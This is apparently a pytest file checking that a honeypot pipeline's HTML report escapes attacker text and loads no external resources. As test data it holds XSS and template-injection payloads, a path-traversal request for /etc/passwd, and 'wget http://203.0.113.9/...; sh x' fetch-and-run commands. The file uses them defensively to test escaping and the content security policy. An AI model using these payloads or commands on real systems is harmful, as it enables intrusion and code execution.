"""The report as HTML: one document that loads and runs nothing, whatever attackers wrote."""

import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import Engine

from rustbucket_pipeline.analysis.html_page import html_of
from rustbucket_pipeline.analysis.page import Report
from rustbucket_pipeline.analysis.report import report_at_once
from rustbucket_pipeline_tests.analysis.seeding import WINDOW, command, login, request, session, tell

BAIT = (
    "<script>alert(1)</script>",
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    "</style><style>*{display:none}",
    "{{ 7*7 }}{% raw %}",
    '" onmouseover="alert(1)',
    "<!-- ",
    "</p></main><iframe src=javascript:alert(1)>",
    "\u202egnp.exe\x1b[2J",
)
OURS = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "header",
        "section",
        "footer",
        "div",
        "details",
        "summary",
    ),
    *("h1", "h2", "h3", "p", "span", "b", "code", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
}


class Read(HTMLParser):
    """What a browser would find in a document."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.told: list[str] = []
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.told.append(data)


@pytest.fixture
def document(database: Engine) -> str:
    """A report in which every place that attackers fill holds every bait."""
    rows = [command(f"{bait}; wget http://203.0.113.9/{bait}; sh x", at) for at, bait in enumerate(BAIT)]
    rows += [login(bait, bait, at, rustbucket_id="BKT2") for at, bait in enumerate(BAIT, 20)]
    tell(database, rows + [request(f"/../../etc/passwd{bait}", at) for at, bait in enumerate(BAIT, 40)])
    for bait in BAIT:
        session(database, f"{bait}; wget http://203.0.113.9/x; sh x", rustbucket="BKT1")
    with database.connect() as connection:
        return html_of(report_at_once(connection, WINDOW), said="said then")


def test_no_text_of_an_attacker_becomes_markup(document: str) -> None:
    read = Read(document)
    assert {tag for tag, _ in read.tags} <= OURS
    assert {name for _, attributes in read.tags for name in attributes} <= {
        *("lang", "charset", "http-equiv", "content", "name", "class"),
    }
    told = "".join(read.told)
    for bait in BAIT[:-1]:
        assert bait in told
    assert "\\u202egnp.exe\\x1b[2J" in told
    assert all(character.isprintable() or character == "\n" for character in told)


def test_the_policy_allows_our_style_and_nothing_else(document: str) -> None:
    policy = next(a["content"] for _, a in Read(document).tags if a.get("http-equiv") == "Content-Security-Policy")
    assert policy is not None
    parts = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert parts["default-src"] == "'none'"
    assert set(parts) == {"default-src", "style-src", "base-uri", "form-action"}
    assert parts["style-src"].startswith("'sha256-")


def test_first_comes_what_is_new_how_bad_what_to_do_last_for_whom_it_speaks(database: Engine) -> None:
    tell(database, [command("wget http://203.0.113.9/x; sh x")])
    with database.connect() as connection:
        report = report_at_once(connection, WINDOW)
    told = [part.strip() for part in Read(html_of(report)).told if part.strip()]
    assert told[2] == report.headline
    assert report.completeness in told[-12:]
    assert all(finding.rows[0] in html_of(report) for finding in report.findings)


@pytest.mark.long
def test_a_browser_shows_it_in_both_colours_and_asks_for_nothing(document: str, tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    browser_path = shutil.which("chromium")
    if browser_path is None:
        pytest.skip("no Chromium here")
    file = tmp_path / "report.html"
    file.write_text(document, encoding="utf-8")
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=browser_path)
        shades = set[str]()
        for scheme in ("light", "dark"):
            page = browser.new_page(color_scheme=scheme)  # type: ignore[arg-type]
            asked, said = list[str](), list[str]()
            page.on("request", lambda one, asked=asked: asked.append(one.url))
            page.on("console", lambda one, said=said: said.append(one.text))
            page.goto(file.as_uri())
            shades.add(page.evaluate("getComputedStyle(document.body).backgroundColor"))
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
            assert asked == [file.as_uri()]
            assert said == []
        browser.close()
    assert len(shades) == 2


def test_a_report_of_an_empty_window_is_a_page_too(database: Engine) -> None:
    with database.connect() as connection:
        report: Report = report_at_once(connection, WINDOW)
    assert "UNKNOWN: no record of this window is at hand." in html_of(report)
